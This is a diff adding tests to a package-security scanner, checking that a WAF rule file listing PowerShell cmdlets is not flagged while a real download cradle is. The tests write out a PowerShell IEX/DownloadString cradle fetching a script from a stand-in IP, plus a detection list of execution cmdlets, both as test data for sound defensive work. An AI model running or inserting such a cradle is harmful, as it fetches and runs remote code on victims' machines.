@@ -4,6 +4,7 @@ of the same kind, which still blocks."""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 from blocking import high
@@ -119,3 +120,39 @@ def test_command_names_in_an_alternation_are_not_a_command(tmp_path: Path) -> No
         assert exam(tmp_path, "beacon", {"lexer.py": beacon}).get("thr-system-recon") == (
             "beacon/lexer.py"
         ), command
+
+
+def _waf_rules(words: list[str], extra: dict[str, object] | None = None) -> str:
+    """A WAF's rule file as ddtrace 4.16.0 ships it (``ddtrace/appsec/rules.json``): the
+    PowerShell cmdlets it detects, one string each, among other operator parameters."""
+    rule = {
+        "id": "crs-932-120",
+        "name": "Windows PowerShell command found",
+        "conditions": [{"operator": "phrase_match", "parameters": {"list": words}}],
+        **(extra or {}),
+    }
+    return json.dumps({"version": "2.2", "rules": [rule]}, indent=2)
+
+
+_CMDLETS = [
+    "import-module", "install-script", "invoke-command", "invoke-expression", "invoke-history",
+    "invoke-item", "invoke-restmethod", "invoke-webrequest", "invoke-wmimethod", "join-path",
+]  # fmt: skip
+_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
+
+
+def yara_findings(tmp_path: Path, name: str, text: str) -> set[str]:
+    report = run_exam(wheel(tmp_path, name, {"appsec/rules.json": text}), Config(only=("yara",)))
+    return {f.rule_id for f in report.findings}
+
+
+def test_attack_words_listed_in_a_json_rule_file_are_not_a_cradle(tmp_path: Path) -> None:
+    cradle = "yara.powershell_download_cradle"
+    assert cradle not in yara_findings(tmp_path, "waf", _waf_rules(_CMDLETS))
+    # a cradle kept in one value, split into values that hold code, or written as a JSON
+    # look-alike that does not parse, is still one
+    stored = _waf_rules(_CMDLETS, {"on_match": [_CRADLE]})
+    split = _waf_rules(["IEX (New-Object System.", "WebClient).DownloadString('http://x/')"])
+    broken = _waf_rules(_CMDLETS)[:-1]
+    for name, text in (("stored", stored), ("split", split), ("broken", broken)):
+        assert cradle in yara_findings(tmp_path, name, text), name
